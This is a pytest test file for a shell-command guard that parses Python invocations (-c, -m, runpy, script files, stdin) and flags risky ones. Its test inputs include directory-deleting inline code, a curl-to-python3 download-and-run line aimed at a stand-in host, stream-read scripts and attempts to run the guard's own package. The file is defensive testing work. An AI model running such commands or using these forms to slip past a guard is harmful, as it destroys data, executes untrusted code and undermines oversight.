"""Python in the bash analysis: ``python -c``, ``python -m``, script files and the guard itself.

Covers ``python_reads_stdin`` (how python's options are read) and the python handler as seen
through :func:`analyze`: the commands recorded (argv, wrappers, cwd, stdin) and the findings.
"""

from __future__ import annotations

import shlex

import pytest

from guard._policy.bash.model import Command, Word
from guard._policy.bash.running.interpreters import python_reads_stdin
from guard._policy.bash.walker import analyze

Record = tuple[
    tuple[str | None, ...], tuple[str, ...], str, tuple[str | None, ...], tuple[str, ...], bool
]


def record(command: Command) -> Record:
    """Everything the analysis keeps about one simple command that the tests look at."""
    return (
        tuple(w.value for w in command.argv),
        command.via,
        command.cwd,
        tuple(p.program for p in command.producers),
        tuple(command.stdin_texts),
        command.stdin_file,
    )


def commands(command: str) -> list[Record]:
    script = analyze(command, cwd="/w", home="/h")
    return [record(c) for c in script.commands if c.argv]


def findings(command: str) -> list[tuple[str, str]]:
    return [(f.check, f.detail) for f in analyze(command, cwd="/w", home="/h").findings]


def plain(*argv: str | None, via: tuple[str, ...] = ()) -> Record:
    """A command run in ``/w`` with nothing on its stdin."""
    return (argv, via, "/w", (), (), False)


def itself(command: str) -> Record:
    """``command`` recorded as written (``$NAME`` words unknown)."""
    return plain(*(None if w.startswith("$") else w for w in shlex.split(command)))


def words(*values: str | None) -> list[Word]:
    return [Word(v, v if v is not None else "$X") for v in values]


# -- python_reads_stdin ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("args", "expected"),
    [
        ((), True),
        (("-",), True),
        (("-", "script.py"), True),
        (("--",), True),
        (("--", "script.py"), False),
        (("--", None), True),
        ((None,), True),
        (("-B", None), True),
        (("-B",), True),
        (("-B", "-I", "-u"), True),
        (("-BIu",), True),
        (("-bBdEhiIOPqRsSuvV",), True),
        (("script.py",), False),
        (("-B", "script.py"), False),
        (("-c", "print(1)"), False),
        (("-c",), False),
        (("-Bc", "print(1)"), False),
        (("-cprint(1)",), False),
        (("-m", "pytest"), False),
        (("-m",), False),
        (("-Im", "pytest"), False),
        (("-mpytest",), False),
        (("--version",), False),
        (("--help",), False),
        (("--check-hash-based-pycs", "always"), True),
        (("--check-hash-based-pycs", "always", "script.py"), False),
        (("-W", "error"), True),
        (("-W", "error", "script.py"), False),
        (("-Werror", "script.py"), False),
        (("-X", "dev"), True),
        (("-X", "dev", "-c", "print(1)"), False),
        (("-Xdev", "-m", "pytest"), False),
        (("-BW", "error", "script.py"), False),
        (("-BW", "error"), True),
        (("--unknown",), True),
        (("-Z", "script.py"), True),
        (("-BZ", "script.py"), True),
    ],
)
def test_python_reads_its_program_on_stdin(args: tuple[str | None, ...], expected: bool) -> None:
    assert python_reads_stdin(words(*args)) is expected


# -- python -c ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "command",
    [
        "python -c 'import shutil; shutil.rmtree(\"a\")'",
        "python3 -B -c 'import shutil; shutil.rmtree(\"a\")'",
        "python -Bc 'import shutil; shutil.rmtree(\"a\")'",
        "python -c'import shutil; shutil.rmtree(\"a\")'",
        "python -Bc'import shutil; shutil.rmtree(\"a\")'",
        "python -W error -c 'import shutil; shutil.rmtree(\"a\")'",
        "python -Werror -c 'import shutil; shutil.rmtree(\"a\")'",
        "python -X dev -c 'import shutil; shutil.rmtree(\"a\")'",
        "python --check-hash-based-pycs never -c 'import shutil; shutil.rmtree(\"a\")'",
        "python -c 'import shutil; shutil.rmtree(\"a\")' arg",
        "python -c 'import shutil; shutil.rmtree(\"a\")' -m pytest",
    ],
)
def test_python_c_code_is_checked(command: str) -> None:
    assert commands(command) == [itself(command)]
    assert findings(command) == [
        ("inline-code", 'inline python code: import shutil; shutil.rmtree("a")')
    ]


def test_python_c_code_quoted_strings_are_kept_for_path_rules() -> None:
    script = analyze("python -c 'import shutil; shutil.rmtree(\"a\")'", cwd="/w", home="/h")
    assert [c.code_strings for c in script.commands] == [("a",)]


@pytest.mark.parametrize(
    "command", ["python -c 'import os'", "python -c 'print(1)' arg", "python -I -c 'import sys'"]
)
def test_python_c_harmless_code_does_not_ask(command: str) -> None:
    assert commands(command) == [itself(command)]
    assert findings(command) == []


def test_python_c_without_code_checks_empty_code() -> None:
    assert commands("python -c") == [plain("python", "-c")]
    assert findings("python -c") == [("inline-code", "inline python code: ")]


def test_python_c_code_from_a_variable_is_dynamic() -> None:
    assert commands('python -c "$CODE"') == [plain("python", "-c", None)]
    assert findings('python -c "$CODE"') == [
        ("dynamic-script", "python -c runs code built at runtime")
    ]


# -- options the analysis does not read, or only knows at runtime ------------------------------


@pytest.mark.parametrize(
    "command",
    [
        "python --foo x.py",
        "python --verbose",
        "python -Z x.py",
        "python -BZ x.py",
        "python -Cc 'print(1)'",
        "python -M pytest",
        "python -x.py",
    ],
)
def test_python_options_not_understood_ask(command: str) -> None:
    assert commands(command) == [itself(command)]
    assert findings(command) == [
        ("inline-code", "python runs with options the analysis does not read")
    ]


@pytest.mark.parametrize("command", ["python $SCRIPT", "python -B $SCRIPT", "python -- $SCRIPT"])
def test_python_script_or_option_from_a_variable_is_dynamic(command: str) -> None:
    assert commands(command) == [itself(command)]
    assert findings(command) == [
        ("dynamic-script", "python's options or script are only known at runtime")
    ]


# -- script files ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "command",
    [
        "python x.py",
        "python x.py guard",
        "python x.py -m guard",
        "python -B x.py",
        "python -- x.py a",
        "python -W error x.py",
        "python -Werror x.py",
        "python -X dev x.py",
        "python -Xdev x.py",
        "python -BW error x.py",
        "python --check-hash-based-pycs always x.py",
        "python --version",
        "python --help",
        "python -",
        "python - guard",
        "python -B",
        "python --",
        "python",
        "python /",
        "python .",
        "python tools/pi-guardX check",
        "python guard/util.py",
        "python guard/_policy/engine.py",
        "python guard/x/_cli/main.py",
        "python _cli/guard.py",
        "python guard/_cli",
        "python guard/__main__.txt",
        "python guardian/__main__.py",
        "python -- --foo",
        "python -- -m guard",
    ],
)
def test_python_running_a_script_file_is_recorded_as_itself(command: str) -> None:
    assert commands(command) == [itself(command)]
    assert findings(command) == []


@pytest.mark.parametrize(
    ("command", "stream"),
    [
        ("python /dev/stdin", "/dev/stdin"),
        ("python3 -B /proc/self/fd/0", "/proc/self/fd/0"),
        ("python -- /dev/stdin x", "/dev/stdin"),
        ("python -W error /dev/fd/3", "/dev/fd/3"),
        ("python --check-hash-based-pycs always /dev/stdin", "/dev/stdin"),
    ],
)
def test_python_running_a_script_from_a_stream_asks(command: str, stream: str) -> None:
    assert commands(command) == [itself(command)]
    assert findings(command) == [("shell-stdin", "python runs a script from a stream: " + stream)]


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("python bin/pi-guard check", ("pi-guard", "check")),
        ("python pi-guard check", ("pi-guard", "check")),
        ("python /usr/local/bin/pi-guard check --json", ("pi-guard", "check", "--json")),
        ("python ./pi-guard/ check", ("pi-guard", "check")),
        ("python -B bin/pi-guard check", ("pi-guard", "check")),
        ("python -W error -B bin/pi-guard check", ("pi-guard", "check")),
        ("python -- bin/pi-guard a b", ("pi-guard", "a", "b")),
        ("python bin/pi-guard", ("pi-guard",)),
    ],
)
def test_python_running_the_pi_guard_script_is_the_guard_cli(
    command: str, expected: tuple[str, ...]
) -> None:
    assert commands(command) == [plain(*expected, via=("python",))]


def test_python_running_pi_guard_keeps_outer_wrappers() -> None:
    assert commands("env python bin/pi-guard check") == [
        plain("pi-guard", "check", via=("env", "python"))
    ]


@pytest.mark.parametrize(
    "path",
    [
        "guard",
        "./guard",
        "src/guard",
        "guard/",
        "guard/.",
        "src/./guard/",
        "guard/__main__.py",
        "src/guard/__main__.py",
        "guard/_cli/main.py",
        "src/guard/_cli/main.py",
        "guard/_cli/main.pyc",
        "guard/_cli/sub/x.py",
        "x/guard/y/guard/__main__.py",
        "guard/__main__.pyc",
        "guard/__pycache__/__main__.cpython-311.pyc",
        "src/guard/_cli/__pycache__/main.cpython-311.pyc",
        "guard/__pycache__/_cli/main.cpython-311.pyc",  # a cache directory anywhere
    ],
)
def test_python_running_the_guard_package_is_guard_self(path: str) -> None:
    command = f"python {path}"
    assert commands(command) == [plain("python", path)]
    assert findings(command) == [("guard-self", "runs the guard package: python " + path)]


def test_python_running_the_guard_package_after_options() -> None:
    for command, path in [
        ("python -- guard/__main__.py", "guard/__main__.py"),
        ("python -W error -B guard", "guard"),
        ("python -Werror guard", "guard"),
        ("python -Wd guard", "guard"),
        ("python -B --check-hash-based-pycs always guard", "guard"),
        ("python --check-hash-based-pycs always guard", "guard"),
    ]:
        assert commands(command) == [itself(command)], command
        assert findings(command) == [("guard-self", "runs the guard package: python " + path)]


# -- python -m ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("python -m pytest", ("pytest",)),
        ("python -m pytest -q", ("pytest", "-q")),
        ("python -m pytest -q x", ("pytest", "-q", "x")),
        ("python -mpytest -q x", ("pytest", "-q", "x")),
        ("python -Im pytest -q", ("pytest", "-q")),
        ("python -B -m pytest -q", ("pytest", "-q")),
        ("python -X dev -m pytest -q", ("pytest", "-q")),
        ("python -W error -m pytest -q", ("pytest", "-q")),
        ("python3 -m pip install x", ("pip", "install", "x")),
        ("python -m json.tool f.json", ("json.tool", "f.json")),
        ("python -m http.server 8000", ("http.server", "8000")),
    ],
)
def test_python_m_allowlisted_module_runs_as_a_program(
    command: str, expected: tuple[str, ...]
) -> None:
    assert commands(command) == [plain(*expected, via=("python -m",))]
    assert findings(command) == []


@pytest.mark.parametrize(
    ("command", "module", "expected"),
    [
        ("python -m foo", "foo", ("foo",)),
        ("python -m foo.bar a", "foo.bar", ("foo.bar", "a")),
        ("python -m pytest.x a", "pytest.x", ("pytest.x", "a")),
        ("python -m pip._internal install x", "pip._internal", ("pip", "install", "x")),
        ("python -m pip.__main__ install", "pip.__main__", ("pip", "install")),
        ("python -m pipx.x", "pipx.x", ("pipx.x",)),
        ("python -m", "", ("",)),
    ],
)
def test_python_m_other_module_asks(command: str, module: str, expected: tuple[str, ...]) -> None:
    assert commands(command) == [itself(command), plain(*expected, via=("python -m",))]
    assert findings(command) == [
        ("inline-code", f"python -m {module} runs a module not on the short allowlist")
    ]


@pytest.mark.parametrize(
    ("command", "module"),
    [
        ("python -m guard", "guard"),
        ("python -Im guard", "guard"),
        ("python -m guard.cli check", "guard.cli"),
        ("python -m guard._cli.main", "guard._cli.main"),
        ("python -mguard", "guard"),
        ("python -m runpy guard.x", "guard.x"),
    ],
)
def test_python_m_guard_is_guard_self(command: str, module: str) -> None:
    assert commands(command) == [itself(command)]
    assert findings(command) == [("guard-self", "runs the guard's own CLI: python -m " + module)]


def test_python_m_module_from_a_variable_is_dynamic() -> None:
    for command in [
        'python -m "$M"',
        "python -m runpy",
        "python -m runpy -x",
        "python -m runpy $M",
    ]:
        assert commands(command) == [itself(command)], command
        assert findings(command) == [
            ("dynamic-command", "python -m runs a module named at runtime")
        ], command


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("python -m runpy pytest", ("pytest",)),
        ("python -m runpy pip install x", ("pip", "install", "x")),
        ("python -m runpy pytest -q x", ("pytest", "-q", "x")),
    ],
)
def test_python_m_runpy_runs_the_named_module(command: str, expected: tuple[str, ...]) -> None:
    assert commands(command) == [plain(*expected, via=("python -m runpy", "python -m"))]
    assert findings(command) == []


def test_python_m_runpy_other_module_asks() -> None:
    assert commands("python -m runpy foo a") == [
        plain("python", "-m", "runpy", "foo", "a"),
        plain("foo", "a", via=("python -m runpy", "python -m")),
    ]
    assert findings("python -m runpy foo a") == [
        ("inline-code", "python -m foo runs a module not on the short allowlist")
    ]


def test_python_m_keeps_outer_wrappers_and_directory() -> None:
    assert commands("cd /srv && env python -m pytest -q") == [
        plain("cd", "/srv"),
        (("pytest", "-q"), ("env", "python -m"), "/srv", (), (), False),
    ]


# -- what python reads on stdin ----------------------------------------------------------------


def test_python_reading_a_pipe_checks_the_static_code() -> None:
    command = "echo 'import shutil; shutil.rmtree(x)' | python"
    assert commands(command) == [
        plain("echo", "import shutil; shutil.rmtree(x)"),
        (("python",), (), "/w", ("echo",), (), False),
    ]
    assert findings(command) == [
        ("shell-stdin", "python reads its program on stdin"),
        ("inline-code", "inline python code: import shutil; shutil.rmtree(x)"),
    ]


def test_python_reading_a_here_string_checks_it() -> None:
    command = "python - <<< 'import shutil; shutil.rmtree(x)'"
    assert commands(command) == [
        (("python", "-"), (), "/w", (), ("import shutil; shutil.rmtree(x)",), False)
    ]
    assert findings(command) == [
        ("shell-stdin", "python reads its program on stdin"),
        ("inline-code", "inline python code: import shutil; shutil.rmtree(x)"),
    ]


def test_python_reading_a_redirected_file_asks() -> None:
    assert commands("python < s.py") == [(("python",), (), "/w", (), (), True)]
    assert findings("python < s.py") == [("shell-stdin", "python reads its program on stdin")]


def test_python_reading_a_downloaded_pipe_is_download_exec() -> None:
    command = "curl -s https://x.example/i.py | python3 -"
    assert commands(command) == [
        plain("curl", "-s", "https://x.example/i.py"),
        (("python3", "-"), (), "/w", ("curl",), (), False),
    ]
    assert findings(command) == [("download-exec", "python3 runs code downloaded from the network")]


def test_python_dash_reads_stdin_even_with_a_script_argument() -> None:
    command = "echo 'import shutil; shutil.rmtree(x)' | python - x.py"
    assert findings(command) == [
        ("shell-stdin", "python reads its program on stdin"),
        ("inline-code", "inline python code: import shutil; shutil.rmtree(x)"),
    ]


@pytest.mark.parametrize(
    "command",
    [
        "echo 'import shutil; shutil.rmtree(x)' | python x.py",
        "echo 'import shutil; shutil.rmtree(x)' | python -- x.py",
        "python x.py <<< 'import shutil; shutil.rmtree(x)'",
        "python x.py < in.txt",
        "echo 'import shutil; shutil.rmtree(x)' | python -c 'import os'",
        "echo 'import shutil; shutil.rmtree(x)' | python -m pytest",
        "echo 'import shutil; shutil.rmtree(x)' | python --version",
    ],
)
def test_python_with_a_program_does_not_read_code_on_stdin(command: str) -> None:
    assert findings(command) == []
